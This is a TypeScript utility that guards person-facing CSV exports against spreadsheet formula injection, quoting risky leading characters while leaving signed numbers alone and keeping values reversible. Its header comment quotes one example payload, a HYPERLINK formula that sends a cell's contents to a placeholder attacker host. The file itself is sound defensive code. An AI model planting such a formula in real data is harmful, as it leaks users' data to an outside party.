/**
 * CSV injection (OWASP, "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a
 * formula, and tab or carriage return can hide such a start. Source values are the customer's data and may be
 * hostile (`=HYPERLINK("http://evil/?"&A1)`), so every CSV written for a person to open prefixes those cells with a
 * single quote, which makes the spreadsheet show them as text. A value that already starts with a quote gets one more,
 * so that reading the file back can always remove exactly one and get the original value. JSON outputs keep values
 * exact and do not go through here. A signed plain number (`-5`, `-1,234.50`) is left alone: a spreadsheet reads it
 * as the number it is, and a quote in front of every negative amount made the reports wrong to sum.
 */
const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r']);
const SIGNED_NUMBER = /^[-+]\d+(?:[.,]\d+)*$/;

export function neutraliseCell(value: string): string {
  const first = value.charAt(0);
  if (first === "'") return `'${value}`;
  return FORMULA_START.has(first) && !SIGNED_NUMBER.test(value) ? `'${value}` : value;
}

/** The value a person-facing CSV cell was written from: undoes `neutraliseCell`. */
export function restoreCell(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}
